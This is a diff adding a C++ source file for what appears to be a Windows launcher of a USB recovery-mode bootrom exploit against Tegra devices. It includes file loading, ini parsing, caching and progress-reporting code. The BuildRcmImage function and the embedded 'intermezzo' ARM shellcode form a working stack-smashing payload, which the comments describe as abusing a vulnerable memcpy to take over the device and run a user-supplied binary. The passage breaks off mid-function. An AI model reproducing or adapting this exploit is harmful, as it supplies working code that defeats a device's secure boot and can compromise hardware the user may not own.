@@ -0,0 +1,1614 @@
+#include "RcmSession.h"
+#include "RcmDevice.h"
+#include "DataCache.h"
+#include "Crc32c.h"
+#include "Decompressor.h"
+#include "iniparse.h"
+#include "ScopeGuard.h"
+#include "TraceWriter.h"
+#include "LowJitter.h"
+#include "AsyncLogger.h"
+#include "CaptureWriter.h"
+#include "CommandBatch.h"
+#include "EmulatedDevice.h"
+#include <assert.h>
+#include <tchar.h>
+#include <stdio.h>
+#include <fstream>
+#include <thread>
+#include <atomic>
+#include <memory>
+#include <algorithm>
+#include <Shlwapi.h>
+
+namespace
+{
+	int WrappedPrintToErr(const char* format, ...)
+	{
+		char tempBuf[1024];
+		tempBuf[0] = 0;
+
+		va_list vargs;
+		va_start(vargs, format);
+		int numPrinted = vsprintf_s(tempBuf, format, vargs);
+		va_end(vargs);
+
+		WinString widened(&tempBuf[0], &tempBuf[numPrinted]);
+		LogPrint(LogLevel::Error, TEXT("%Ts"), widened.c_str());
+
+		return numPrinted;
+	}
+
+	const byte BUILTIN_INTERMEZZO[] =
+	{
+		0x44, 0x00, 0x9F, 0xE5, 0x01, 0x11, 0xA0, 0xE3, 0x40, 0x20, 0x9F, 0xE5, 0x00, 0x20, 0x42, 0xE0,
+		0x08, 0x00, 0x00, 0xEB, 0x01, 0x01, 0xA0, 0xE3, 0x10, 0xFF, 0x2F, 0xE1, 0x00, 0x00, 0xA0, 0xE1,
+		0x2C, 0x00, 0x9F, 0xE5, 0x2C, 0x10, 0x9F, 0xE5, 0x02, 0x28, 0xA0, 0xE3, 0x01, 0x00, 0x00, 0xEB,
+		0x20, 0x00, 0x9F, 0xE5, 0x10, 0xFF, 0x2F, 0xE1, 0x04, 0x30, 0x90, 0xE4, 0x04, 0x30, 0x81, 0xE4,
+		0x04, 0x20, 0x52, 0xE2, 0xFB, 0xFF, 0xFF, 0x1A, 0x1E, 0xFF, 0x2F, 0xE1, 0x20, 0xF0, 0x01, 0x40,
+		0x5C, 0xF0, 0x01, 0x40, 0x00, 0x00, 0x02, 0x40, 0x00, 0x00, 0x01, 0x40
+	};
+
+	//A section the ini declares a second time replaces what it emitted the first time
+	template<typename T>
+	T& IniSectionSlot(vector<T>& items, size_t firstIniItem, const char* sectname, bool redeclared)
+	{
+		if (redeclared)
+		{
+			for (size_t i=firstIniItem; i<items.size(); i++)
+			{
+				if (stricmp(items[i].name.c_str(), sectname) == 0)
+				{
+					items[i] = T();
+					return items[i];
+				}
+			}
+		}
+
+		items.emplace_back();
+		return items.back();
+	}
+
+	//Reports the phases of one session to the progress callback, the metrics and the trace. Phases nest,
+	//and the ones an early return leaves open get closed with the session result once the session ends
+	class SessionProgress
+	{
+	public:
+		SessionProgress(RcmSmashProgressFunc progressFunc_, void* userData_, BootMetrics* metrics_) : progressFunc(progressFunc_), userData(userData_), metrics(metrics_),
+			tracing(TraceWriter::instance().enabled()), numOpen(0), failedPhase(RCMSMASH_PHASE_SESSION), sawFailure(false), gotDeviceId(false)
+		{
+			if (active())
+				sessionStart = std::chrono::steady_clock::now();
+		}
+
+		void begin(RcmSmashPhase_t phase, const char* name = nullptr, u64 offset = 0, u64 numBytes = 0)
+		{
+			if (!active())
+				return;
+			if (metrics != nullptr && phase == RCMSMASH_PHASE_SESSION)
+				metrics->sessionStarted();
+
+			assert(numOpen < array_countof(openPhases));
+			auto& newPhase = openPhases[numOpen++];
+			newPhase.phase = phase;
+			newPhase.name = name;
+			newPhase.offset = offset;
+			newPhase.numBytes = numBytes;
+			newPhase.startTime = std::chrono::steady_clock::now();
+			if (progressFunc != nullptr)
+				report(newPhase, false, 0, newPhase.startTime);
+		}
+		//ends the innermost open phase
+		void end(int result = 0)
+		{
+			if (!active() || numOpen == 0)
+				return;
+
+			const auto currTime = std::chrono::steady_clock::now();
+			auto& currPhase = openPhases[--numOpen];
+			if (result != 0 && !sawFailure)
+			{
+				failedPhase = currPhase.phase;
+				sawFailure = true;
+			}
+			// a section sends whatever its replies did
+			if (currPhase.phase == RCMSMASH_PHASE_SECTION_REPLY && result == 0 && numOpen > 0 && openPhases[numOpen-1].phase == RCMSMASH_PHASE_SECTION)
+				openPhases[numOpen-1].numBytes += currPhase.numBytes;
+
+			if (metrics != nullptr)
+			{
+				if (currPhase.phase == RCMSMASH_PHASE_SESSION)
+					metrics->sessionFinished(result, failedPhase);
+				else
+					metrics->phaseFinished(currPhase.phase, result, std::chrono::duration<double, std::milli>(currTime - currPhase.startTime).count(), currPhase.numBytes);
+			}
+			if (tracing)
+			{
+				TraceWriter::instance().addSpan("session", rcmsmash_phase_name(currPhase.phase), currPhase.startTime, currTime,
+												gotDeviceId ? deviceId : nullptr, currPhase.name, currPhase.numBytes, result);
+			}
+			if (progressFunc != nullptr)
+				report(currPhase, true, result, currTime);
+		}
+		void finish(int result)
+		{
+			while (numOpen > 0)
+				end(result);
+		}
+		//for phases that only know what they sent once they're done
+		void addBytes(u64 numBytes)
+		{
+			if (numOpen > 0)
+				openPhases[numOpen-1].numBytes += numBytes;
+		}
+		void setDeviceId(const u8* idBytes)
+		{
+			memcpy(deviceId, idBytes, sizeof(deviceId));
+			gotDeviceId = true;
+		}
+	protected:
+		bool active() const { return progressFunc != nullptr || metrics != nullptr || tracing; }
+
+		struct OpenPhase
+		{
+			RcmSmashPhase_t phase;
+			const char* name;
+			u64 offset;
+			u64 numBytes;
+			std::chrono::steady_clock::time_point startTime;
+		};
+
+		void report(const OpenPhase& currPhase, bool finished, int result, std::chrono::steady_clock::time_point currTime)
+		{
+			RcmSmashProgress_t progress;
+			memset(&progress, 0, sizeof(progress));
+			progress.phase = currPhase.phase;
+			progress.finished = finished ? 1 : 0;
+			progress.result = result;
+			progress.name = currPhase.name;
+			progress.offset = currPhase.offset;
+			progress.numBytes = currPhase.numBytes;
+			progress.elapsedMs = std::chrono::duration<double, std::milli>(currTime - sessionStart).count();
+			if (finished)
+				progress.durationMs = std::chrono::duration<double, std::milli>(currTime - currPhase.startTime).count();
+			if (gotDeviceId)
+				progress.deviceId = deviceId;
+
+			progressFunc(userData, &progress);
+		}
+
+		RcmSmashProgressFunc progressFunc;
+		void* userData;
+		BootMetrics* metrics;
+		bool tracing;
+		std::chrono::steady_clock::time_point sessionStart;
+		OpenPhase openPhases[8];
+		size_t numOpen;
+		RcmSmashPhase_t failedPhase; //innermost phase that ended with an error
+		bool sawFailure;
+		u8 deviceId[0x10];
+		bool gotDeviceId;
+	};
+}
+
+void GetBuiltinRelocator(ByteVector& outBuf)
+{
+	outBuf.assign(std::begin(BUILTIN_INTERMEZZO), std::end(BUILTIN_INTERMEZZO));
+}
+
+WinString WidenUtf8(const std::string& utf8Str)
+{
+	if (sizeof(TCHAR) == sizeof(char))
+		return WinString(utf8Str.begin(), utf8Str.end());
+
+	TCHAR convChars[2048];
+	convChars[0] = 0;
+
+	const auto numChars = MultiByteToWideChar(CP_UTF8, 0, utf8Str.c_str(), -1, convChars, (int)array_countof(convChars)-1);
+	if (numChars <= 0)
+		return WinString();
+
+	return WinString(convChars, numChars-1);
+}
+
+void SplitArguments(const std::string& inputLine, vector<std::string>& outArgs)
+{
+	outArgs.clear();
+	std::string currArg;
+	bool inQuotes = false, haveArg = false;
+	for (const char currChar : inputLine)
+	{
+		if (currChar == '"')
+		{
+			inQuotes = !inQuotes;
+			haveArg = true;
+		}
+		else if (!inQuotes && isspace((unsigned char)currChar))
+		{
+			if (haveArg)
+				outArgs.emplace_back(std::move(currArg));
+
+			currArg.clear();
+			haveArg = false;
+		}
+		else
+		{
+			currArg.push_back(currChar);
+			haveArg = true;
+		}
+	}
+	if (haveArg)
+		outArgs.emplace_back(std::move(currArg));
+}
+
+int ReadFileToBuf(ByteVector& outBuf, const TCHAR* fileType, const TCHAR* inputFilename, size_t offset, size_t maxSize, bool silent)
+{
+	TraceSpan loadSpan("host", "load_file", inputFilename);
+	auto spanGrd = MakeScopeGuard([&loadSpan, &outBuf]() { loadSpan.numBytes = outBuf.size(); });
+
+	std::ifstream inputFile(inputFilename, std::ios::binary);
+	if (!inputFile.is_open())
+	{
+		if (!silent)
+			LogPrint(LogLevel::Error, TEXT("Couldn't open %Ts file '%Ts' for reading\n"), fileType, inputFilename);
+
+		loadSpan.result = -2;
+		return -2;
+	}
+
+	inputFile.seekg(0, std::ios::end);
+	const auto inputSize = (size_t)inputFile.tellg();
+
+	// Compressed files get unpacked in memory, offset and maxSize then apply to the decompressed data
+	u8 magicBytes[4] = { 0, 0, 0, 0 };
+	inputFile.seekg(0, std::ios::beg);
+	inputFile.read((char*)magicBytes, std::min(inputSize, sizeof(magicBytes)));
+	const auto compType = DetectCompression(magicBytes, (size_t)inputFile.gcount());
+	if (compType != CompressionType::None)
+	{
+		const size_t maxOutSize = (maxSize != 0) ? offset+maxSize : 0;
+
+		// the last 4 bytes of a gzip file are the size of its last member, good enough to size the output for the usual single member
+		if (compType == CompressionType::Gzip && inputSize >= 18)
+		{
+			u8 sizeBytes[4] = { 0, 0, 0, 0 };
+			inputFile.seekg(inputSize-sizeof(sizeBytes), std::ios::beg);
+			inputFile.read((char*)sizeBytes, sizeof(sizeBytes));
+			size_t expectedSize = size_t(sizeBytes[0]) | (size_t(sizeBytes[1]) << 8) | (size_t(sizeBytes[2]) << 16) | (size_t(sizeBytes[3]) << 24);
+			if (maxOutSize != 0 && maxOutSize < expectedSize)
+				expectedSize = maxOutSize;
+
+			outBuf.reserve(expectedSize);
+		}
+
+		inputFile.clear();
+		inputFile.seekg(0, std::ios::beg);
+		const DecompressReadFunc readFunc = [&inputFile](u8* outBytes, size_t maxBytes) -> size_t
+		{
+			inputFile.read((char*)outBytes, maxBytes);
+			return (size_t)inputFile.gcount();
+		};
+
+		string errorMsg;
+		const bool decompressed = DecompressStream(compType, readFunc, outBuf, maxOutSize, errorMsg);
+		if (inputFile.bad())
+		{
+			LogPrint(LogLevel::Error, TEXT("Error reading %Ts file '%Ts'\n"), fileType, inputFilename);
+			return -2;
+		}
+		if (!decompressed)
+		{
+			LogPrint(LogLevel::Error, TEXT("Error decompressing %hs %Ts file '%Ts': %hs\n"), CompressionTypeName(compType), fileType, inputFilename, errorMsg.c_str());
+			return -2;
+		}
+
+		if (offset >= outBuf.size())
+			outBuf.resize(0);
+		else if (offset > 0)
+			outBuf.erase(outBuf.begin(), outBuf.begin()+offset);
+
+		return 0;
+	}
+
+	inputFile.clear();
+	inputFile.seekg(offset, std::ios::beg);
+
+	if (inputSize > offset)
+		outBuf.resize(inputSize-offset);
+	else
+		outBuf.resize(0);
+
+	if (maxSize != 0 && maxSize < outBuf.size())
+		outBuf.resize(maxSize);
+
+	if (outBuf.size() > 0)
+	{
+		inputFile.read((char*)&outBuf[0], outBuf.size());
+		const auto bytesRead = inputFile.gcount();
+		if (bytesRead < (std::streamsize)outBuf.size())
+		{
+			LogPrint(LogLevel::Error, TEXT("Error reading %Ts file '%Ts' (only %llu out of %llu bytes read)\n"), fileType, inputFilename, (u64)bytesRead, (u64)outBuf.size());
+			return -2;
+		}
+	}
+
+	return 0;
+}
+
+ProfileReplay::ProfileReplay(const AccessProfile& profile)
+{
+	for (const auto& currEntry : profile.getEntries())
+	{
+		auto& currSection = sections[currEntry.section];
+		currSection.firstRequestMs = std::min(currSection.firstRequestMs, currEntry.elapsedMs);
+		currSection.ranges.emplace_back(u64(currEntry.offset), u64(currEntry.offset)+currEntry.length);
+	}
+
+	for (auto& currSection : sections)
+	{
+		auto& ranges = currSection.second.ranges;
+		std::sort(ranges.begin(), ranges.end());
+
+		size_t numMerged = 0;
+		for (const auto& currRange : ranges)
+		{
+			if (numMerged > 0 && currRange.first <= ranges[numMerged-1].second)
+				ranges[numMerged-1].second = std::max(ranges[numMerged-1].second, currRange.second);
+			else
+				ranges[numMerged++] = currRange;
+		}
+		ranges.resize(numMerged);
+	}
+}
+
+u32 ProfileReplay::getFirstRequestMs(const LoadDataItem& item) const
+{
+	const auto it = sections.find(item.name);
+	return (it != sections.end()) ? it->second.firstRequestMs : UINT32_MAX;
+}
+
+void ProfileReplay::pin(const LoadDataItem& item)
+{
+	const auto sectionIt = sections.find(item.name);
+	if (sectionIt == sections.end() || item.dataBytes == nullptr)
+		return;
+
+	std::lock_guard<std::mutex> pinLock(pinMutex);
+	auto& currPinned = pinnedSections[item.name];
+	if (currPinned.dataBytes == item.dataBytes)
+		return;
+
+	// a reloaded section only needs its new buffer locked, the old one may still be in use but nothing is waiting on it anymore
+	currPinned.locker.reset(new MemoryLocker());
+	currPinned.dataBytes = item.dataBytes;
+	for (const auto& currRange : sectionIt->second.ranges)
+	{
+		if (currRange.first >= item.dataSize())
+			break;
+
+		const auto rangeEnd = std::min(currRange.second, u64(item.dataSize()));
+		currPinned.locker->lockRange(item.dataPtr((size_t)currRange.first), size_t(rangeEnd-currRange.first));
+	}
+}
+
+size_t ProfileReplay::getPinnedBytes() const
+{
+	std::lock_guard<std::mutex> pinLock(pinMutex);
+	size_t numBytes = 0;
+	for (const auto& currPinned : pinnedSections)
+		numBytes += currPinned.second.locker->getLockedBytes();
+
+	return numBytes;
+}
+
+size_t ProfileReplay::getUnpinnedBytes() const
+{
+	std::lock_guard<std::mutex> pinLock(pinMutex);
+	size_t numBytes = 0;
+	for (const auto& currPinned : pinnedSections)
+		numBytes += currPinned.second.locker->getUnlockedBytes();
+
+	return numBytes;
+}
+
+int LoadDataItemBytes(LoadDataItem& currData, bool* wasRead)
+{
+	bool fileRead = false;
+	const size_t padTo = (currData.name.length() == 0) ? currData.maxCount : 0;
+	const auto loadRes = DataCache::instance().get(currData.filename, currData.offset, currData.maxCount, padTo, currData.dataBytes, fileRead, [&currData](ByteVector& outBuf)
+	{
+		return ReadFileToBuf(outBuf, TEXT("data"), currData.filename.c_str(), currData.offset, currData.maxCount, false);
+	});
+
+	if (wasRead != nullptr)
+		*wasRead = fileRead;
+
+	return loadRes;
+}
+
+int LoadAllDataItems(vector<LoadDataItem>& loadData, ProfileReplay* replay)
+{
+	vector<LoadDataItem*> pendingItems;
+	for (auto& currData : loadData)
+	{
+		if (currData.filename.length() == 0 && currData.dataBytes != nullptr)
+		{
+			if (replay != nullptr)
+				replay->pin(currData);
+
+			continue;
+		}
+
+		pendingItems.push_back(&currData);
+	}
+
+	// the loaders take items in order, so whatever the payload is going to ask for first is ready first
+	if (replay != nullptr)
+	{
+		std::stable_sort(pendingItems.begin(), pendingItems.end(), [replay](const LoadDataItem* left, const LoadDataItem* right)
+		{
+			return replay->getFirstRequestMs(*left) < replay->getFirstRequestMs(*right);
+		});
+	}
+
+	// a fixed number of loaders take the files in order, enough to keep the disk and the decompression busy
+	const size_t numWorkers = std::min(pendingItems.size(), size_t(std::max(std::thread::hardware_concurrency(), 1u)));
+	vector<int> loadResults(pendingItems.size(), 0);
+	std::atomic<size_t> nextItem(0);
+	vector<std::thread> workers;
+	for (size_t i=0; i<numWorkers; i++)
+	{
+		workers.emplace_back([&]()
+		{
+			for (;;)
+			{
+				const auto itemIdx = nextItem++;
+				if (itemIdx >= pendingItems.size())
+					break;
+
+				loadResults[itemIdx] = LoadDataItemBytes(*pendingItems[itemIdx]);
+				if (loadResults[itemIdx] == 0 && replay != nullptr)
+					replay->pin(*pendingItems[itemIdx]);
+			}
+		});
+	}
+	for (auto& currWorker : workers)
+		currWorker.join();
+
+	for (const auto readFileRes : loadResults)
+	{
+		if (readFileRes != 0)
+			return readFileRes;
+	}
+
+	return 0;
+}
+
+void PrintDataCacheUsage()
+{
+	const auto cacheUsage = DataCache::instance().getUsage();
+	LogPrint(LogLevel::Info, TEXT("Data cache: %u files, %llu live buffers holding %llu bytes (%llu hits, %llu misses)\n"), cacheUsage.numEntries,
+		cacheUsage.liveBuffers, cacheUsage.liveBytes, cacheUsage.numHits, cacheUsage.numMisses);
+}
+
+int ParseDataArgument(const TCHAR* dataArgument, vector<LoadDataItem>& loadData, vector<BootDataItem>& bootData)
+{
+	const TCHAR HEXA_PREFIX[] = TEXT("0x");
+	const auto colonPos = _tcschr(dataArgument, ':');
+	if (colonPos == nullptr)
+	{
+		LogPrint(LogLevel::Error, TEXT("No colon separator in additional data argument '%Ts'\n"), dataArgument);
+		return -1;
+	}
+
+	const size_t leftPartLen = colonPos-dataArgument;
+	const WinString leftStr(dataArgument, leftPartLen);
+	const TCHAR* leftPart = leftStr.c_str();
+	const TCHAR* rightPart = colonPos+1;
+
+	if (leftPartLen >= array_countof(HEXA_PREFIX) &&
+		_tcsnicmp(leftPart, HEXA_PREFIX, array_countof(HEXA_PREFIX)-1) == 0)
+	{
+		leftPart += array_countof(HEXA_PREFIX)-1;
+
+		LoadDataItem newItem;
+		TCHAR* endPos = nullptr;
+		if (sizeof(newItem.address) == sizeof(unsigned long))
+			newItem.address = _tcstoul(leftPart, &endPos, 0x10);
+		else
+			newItem.address = (size_t)_tcstoull(leftPart, &endPos, 0x10);
+
+		if (endPos == nullptr || endPos == leftPart)
+		{
+			LogPrint(LogLevel::Error, TEXT("Invalid load address '%Ts' in additional data argument '%Ts'\n"), leftPart, dataArgument);
+			return -1;
+		}
+
+		auto it = std::find_if(loadData.cbegin(), loadData.cend(), [&newItem](const LoadDataItem& itm) {
+			return itm.address == newItem.address;
+		});
+
+		if (it != loadData.cend())
+		{
+			LogPrint(LogLevel::Error, TEXT("Load address 0x%08llx already defined with filename '%Ts'\n"), (u64)it->address, it->filename.c_str());
+			return -1;
+		}
+
+		newItem.filename = rightPart;
+		loadData.emplace_back(std::move(newItem));
+		return 0;
+	}
+
+	std::string convAscii; convAscii.reserve(leftPartLen);
+	for (size_t strPos=0; strPos<leftPartLen; strPos++) 
+		convAscii.push_back((char)leftPart[strPos]);
+
+	if (strcmp(convAscii.c_str(), "BOOT") == 0)
+	{
+		if (bootData.size() > 0)
+		{
+			if (bootData[0].filename.length() > 0)
+				LogPrint(LogLevel::Error, TEXT("Load parameter %hs already defined with value '%Ts'\n"), convAscii.c_str(), bootData[0].filename.c_str());
+			else
+				LogPrint(LogLevel::Error, TEXT("Load parameter %hs already defined with value 0x%08llx\n"), convAscii.c_str(), (u64)bootData[0].pc);
+
+			return -1;
+		}
+
+		BootDataItem newBoot;
+		if (_tcsnicmp(rightPart, HEXA_PREFIX, array_countof(HEXA_PREFIX)-1) == 0)
+		{
+			rightPart += array_countof(HEXA_PREFIX)-1;
+
+			TCHAR* endPos = nullptr;
+			if (sizeof(newBoot.pc) == sizeof(unsigned long))
+				newBoot.pc = _tcstoul(rightPart, &endPos, 0x10);
+			else
+				newBoot.pc = (size_t)_tcstoull(rightPart, &endPos, 0x10);
+
+			if (endPos == nullptr || endPos == rightPart)
+			{
+				LogPrint(LogLevel::Error, TEXT("Invalid boot address '%Ts' specified\n"), rightPart);
+				return -1;
+			}
+		}
+		else
+			newBoot.filename = rightPart;
+
+		bootData.emplace_back(std::move(newBoot));
+		return 0;
+	}
+
+	LoadDataItem newItem;
+	newItem.name = std::move(convAscii);
+
+	auto it = std::find_if(loadData.cbegin(), loadData.cend(), [&newItem](const LoadDataItem& itm) {
+		return stricmp(itm.name.c_str(), newItem.name.c_str()) == 0;
+	});
+
+	if (it != loadData.cend())
+	{
+		LogPrint(LogLevel::Error, TEXT("Load parameter %hs already defined with value '%Ts'\n"), it->name.c_str(), it->filename.c_str());
+		return -1;
+	}
+
+	newItem.filename = rightPart;
+	loadData.emplace_back(std::move(newItem));
+	return 0;
+}
+
+int ParseDataIni(const TCHAR* iniFilename, vector<LoadDataItem>& loadData, vector<CopyDataItem>& copyData, vector<BootDataItem>& bootData)
+{
+	TraceSpan parseSpan("host", "parse_ini", iniFilename);
+	ByteVector iniBuf;
+	auto iniReadRes = ReadFileToBuf(iniBuf, TEXT("ini"), iniFilename, 0, 0, false);
+	if (iniReadRes)
+		return iniReadRes;
+
+	if (iniBuf.size() > 0)
+	{
+		struct IniTarget
+		{
+			WinString fileBaseDir;
+			vector<LoadDataItem>& loadData;
+			vector<CopyDataItem>& copyData;
+			vector<BootDataItem>& bootData;
+			size_t firstLoad, firstCopy, firstBoot; //entries before these came from the command line
+		} target = { WinString(), loadData, copyData, bootData, loadData.size(), copyData.size(), bootData.size() };
+
+		{
+			TCHAR absDirPath[2048];
+			absDirPath[0] = 0;
+
+			TCHAR* filePart = nullptr;
+			size_t pathLen = GetFullPathName(iniFilename, (unsigned int)array_countof(absDirPath)-1, absDirPath, &filePart);
+			if (filePart != nullptr)
+			{
+				*filePart = 0;
+				pathLen = filePart-absDirPath;
+			}
+
+			target.fileBaseDir = WinString(absDirPath, pathLen);
+		}
+
+		IniSectionVisitor_t visitor;
+		memset(&visitor, 0, sizeof(visitor));
+		visitor.userData = &target;
+		visitor.onLoad = [](void* userData, const IniLoadSection_t* currLoad, int redeclared)
+		{
+			auto& target = *(IniTarget*)userData;
+			auto& newItem = IniSectionSlot(target.loadData, target.firstLoad, currLoad->sectname, redeclared != 0);
+			newItem.name = currLoad->sectname;
+			newItem.offset = currLoad->skip;
+			newItem.maxCount = currLoad->count;
+			newItem.address = currLoad->dst;
+			if (currLoad->filename == nullptr)
+				return;
+
+			newItem.filename = WidenUtf8(currLoad->filename);
+
+			//make it absolute
+			if (target.fileBaseDir.length() > 1)
+			{
+				wchar_t wideFilename[2048];
+				wideFilename[0] = 0;
+
+				const wchar_t* combinedPath = PathCombine(wideFilename, target.fileBaseDir.c_str(), newItem.filename.c_str());
+				newItem.filename = combinedPath;
+			}
+		};
+		visitor.onCopy = [](void* userData, const IniCopySection_t* currCopy, int redeclared)
+		{
+			auto& target = *(IniTarget*)userData;
+			auto& newItem = IniSectionSlot(target.copyData, target.firstCopy, currCopy->sectname, redeclared != 0);
+			newItem.name = currCopy->sectname;
+			newItem.copyType = currCopy->compType;
+			newItem.srcaddr = currCopy->src;
+			newItem.srclen = currCopy->srclen;
+			newItem.dstaddr = currCopy->dst;
+			newItem.dstlen = currCopy->dstlen;
+		};
+		visitor.onBoot = [](void* userData, const IniBootSection_t* currBoot, int redeclared)
+		{
+			auto& target = *(IniTarget*)userData;
+			auto& newItem = IniSectionSlot(target.bootData, target.firstBoot, currBoot->sectname, redeclared != 0);
+			newItem.name = currBoot->sectname;
+			newItem.pc = currBoot->pc;
+		};
+
+		// keep a terminator after the last line too
+		const int iniSize = (int)iniBuf.size();
+		iniBuf.push_back(0);
+		if (parse_memloader_ini_stream((char*)&iniBuf[0], iniSize, &visitor, malloc, free, WrappedPrintToErr) != 0)
+			return -2;
+	}		
+
+	return 0;
+}
+
+int ResolveLoadOrder(vector<LoadDataItem>& loadData, vector<BootDataItem>& bootData)
+{
+	std::sort(loadData.begin(), loadData.end(), [](const LoadDataItem& left, const LoadDataItem& right) 
+	{
+		if (left.name.length() != 0 && right.name.length() == 0) //named go first
+			return true;
+		if (left.name.length() == 0 && right.name.length() != 0)
+			return false;
+
+		if (left.address != 0 && right.address != 0)
+			return left.address < right.address;
+		else
+			return (strcmp(left.name.c_str(), right.name.c_str()) < 0);
+	});
+
+	//populate address for BOOT if necessary
+	for (auto& currBoot : bootData)
+	{
+		if (currBoot.filename.length() == 0)
+			continue;
+
+		bool foundAddress = false;
+		for (const auto& otherData : loadData)
+		{
+			if (otherData.name.length() == 0 && _tcsicmp(currBoot.filename.c_str(), otherData.filename.c_str()) == 0)
+			{
+				currBoot.pc = otherData.address;
+				foundAddress = true;
+				break;
+			}
+		}
+
+		if (!foundAddress)
+		{
+			LogPrint(LogLevel::Error, TEXT("No load address defined for filename '%Ts' (required for setting BOOT)\n"), currBoot.filename.c_str());
+			return -1;
+		}
+	}
+
+	return 0;
+}
+
+void BuildRcmImage(RcmImage& outImage, const ByteVector& mezzoBuf, const ByteVector& userFileBuf, bool usingNoMezzo)
+{
+	size_t currPayloadOffs = 0;
+	ByteVector payloadBuf;
+
+	// Prefix the image with an RCM command, so it winds up loaded into memory at the right location (0x40010000).
+	// Use the maximum length accepted by RCM, so we can transmit as much payload as we want; we'll take over before we get to the end.
+	{
+		const u32 lengthData = 0x30298;
+		payloadBuf.resize(payloadBuf.size() + sizeof(lengthData));
+		memcpy(&payloadBuf[currPayloadOffs], &lengthData, sizeof(lengthData));
+		currPayloadOffs += sizeof(lengthData);
+	}
+		
+	// pad out to 680 so the payload starts at the right address in IRAM
+	payloadBuf.resize(680, 0);
+	currPayloadOffs = payloadBuf.size();
+
+	constexpr u32 RCM_PAYLOAD_ADDR = 0x40010000;
+	if (usingNoMezzo)
+	{
+		constexpr size_t bytesToAdd = 0x1a3a * sizeof(u32);
+		payloadBuf.resize(payloadBuf.size()+bytesToAdd, 0);
+		currPayloadOffs += bytesToAdd;
+		assert(currPayloadOffs == payloadBuf.size());
+
+		u32 entry = RCM_PAYLOAD_ADDR + (u32)userFileBuf.size() + sizeof(u32);
+		entry |= 1; //we want to jump to thumb code
+
+		payloadBuf.resize(payloadBuf.size()+sizeof(u32));
+		memcpy(&payloadBuf[currPayloadOffs], &entry, sizeof(entry));
+		currPayloadOffs += sizeof(entry);
+		assert(currPayloadOffs == payloadBuf.size());
+	}
+	else
+	{
+		constexpr u32 INTERMEZZO_LOCATION = 0x4001F000;
+		// Populate from[RCM_PAYLOAD_ADDR, INTERMEZZO_LOCATION) with the payload address.
+		// We'll use this data to smash the stack when we execute the vulnerable memcpy.
+		{
+			constexpr size_t bytesToAdd = (INTERMEZZO_LOCATION-RCM_PAYLOAD_ADDR);
+			payloadBuf.resize(payloadBuf.size()+bytesToAdd);
+			while (currPayloadOffs < payloadBuf.size())
+			{
+				const u32 spreadMeAround = INTERMEZZO_LOCATION;
+				memcpy(&payloadBuf[currPayloadOffs], &spreadMeAround, sizeof(spreadMeAround));
+				currPayloadOffs += sizeof(spreadMeAround);
+			}
+		}
+
+		// Include the Intermezzo binary in the command stream. This is our first-stage payload, and it's responsible for relocating the final payload to 0x40010000.
+		{
+			payloadBuf.resize(payloadBuf.size()+mezzoBuf.size());
+			if (currPayloadOffs < payloadBuf.size())
+			{
+				memcpy(&payloadBuf[currPayloadOffs], &mezzoBuf[0], mezzoBuf.size());
+				currPayloadOffs += mezzoBuf.size();
+			}
+			assert(currPayloadOffs == payloadBuf.size());
+		}
+
+		constexpr u32 PAYLOAD_LOAD_BLOCK = 0x40020000;
+		// Finally, pad until we've reached the position we need to put the payload.
+		// This ensures the payload winds up at the location Intermezzo expects.
+		{
+			const auto position = INTERMEZZO_LOCATION + mezzoBuf.size();
+			const auto paddingSize = PAYLOAD_LOAD_BLOCK - position;
+
+			payloadBuf.resize(payloadBuf.size()+paddingSize, 0);
+			currPayloadOffs += paddingSize;
+			assert(currPayloadOffs == payloadBuf.size());
+		}
+	}
+	
+	// Put our user-supplied binary into the payload
+	{
+		payloadBuf.resize(payloadBuf.size()+userFileBuf.size());
+		if (currPayloadOffs < payloadBuf.size())
+		{
+			memcpy(&payloadBuf[currPayloadOffs], &userFileBuf[0], userFileBuf.size());
+			currPayloadOffs += userFileBuf.size();
+		}
+		assert(currPayloadOffs == payloadBuf.size());
+	}
+
+	constexpr size_t PAYLOAD_TOTAL_MAX_SIZE = 192*1024;
+	// Pad the payload to fill a USB request exactly, so we don't send a short
+	// packet and break out of the RCM loop.
+	if (payloadBuf.size() < PAYLOAD_TOTAL_MAX_SIZE)
+		payloadBuf.resize(align_up(payloadBuf.size(), RCMDeviceHacker::PACKET_SIZE), 0);
+	else
+		payloadBuf.resize(PAYLOAD_TOTAL_MAX_SIZE);
+
+	outImage.bytes = DataCache::adopt(std::move(payloadBuf));
+	outImage.mezzoSize = mezzoBuf.size();
+	outImage.payloadSize = userFileBuf.size();
+	outImage.unpaddedSize = currPayloadOffs;
+}
+
+int BuildBootProfile(BootProfile& outProfile, const ByteVector& mezzoBuf, bool usingNoMezzo)
+{
+	ByteVector userFileBuf;
+	auto readFileRes = ReadFileToBuf(userFileBuf, TEXT("payload"), outProfile.payloadFilename.c_str(), 0, 0, false);
+	if (readFileRes != 0)
+		return readFileRes;
+
+	if (outProfile.iniFilename.length() > 0)
+	{
+		readFileRes = ParseDataIni(outProfile.iniFilename.c_str(), outProfile.loadData, outProfile.copyData, outProfile.bootData);
+		if (readFileRes != 0)
+			return readFileRes;
+	}
+
+	readFileRes = ResolveLoadOrder(outProfile.loadData, outProfile.bootData);
+	if (readFileRes != 0)
+		return readFileRes;
+
+	readFileRes = LoadAllDataItems(outProfile.loadData);
+	if (readFileRes != 0)
+		return readFileRes;
+
+	// sessions on different devices can share a profile, so they must never go back to the disk for its data
+	for (auto& currData : outProfile.loadData)
+		currData.reloaded = true;
+
+	BuildRcmImage(outProfile.rcmImage, mezzoBuf, userFileBuf, usingNoMezzo);
+	return 0;
+}
+
+double MillisecondsSince(std::chrono::steady_clock::time_point startTime)
+{
+	return std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - startTime).count();
+}
+
+//Keeps CAPTURE_READS reads queued at the driver so the device never waits for the host to ask for more,
+//and hands whatever arrives to a CaptureWriter. Ends at a zero length packet or when the device goes away
+static int CaptureDeviceOutput(RCMDeviceHacker& rcmDev, const TCHAR* captureFilename, SessionProgress& progress)
+{
+	constexpr size_t CAPTURE_READS = 8;
+	constexpr size_t CAPTURE_READ_SIZE = 0x10000;
+	constexpr double REPORT_INTERVAL_SECS = 5.0;
+
+	CaptureWriter captureWriter;
+	const auto openRes = captureWriter.open(captureFilename);
+	if (openRes != 0)
+		return openRes;
+
+	LogPrint(LogLevel::Info, TEXT("Capturing device output to '%Ts'\n"), captureFilename);
+	progress.begin(RCMSMASH_PHASE_CAPTURE);
+
+	struct QueuedRead
+	{
+		ByteVector buffer;
+		OVERLAPPED overlapped;
+		WinHandle doneEvent;
+		bool pending;
+	};
+	QueuedRead queuedReads[CAPTURE_READS];
+	for (auto& currRead : queuedReads)
+	{
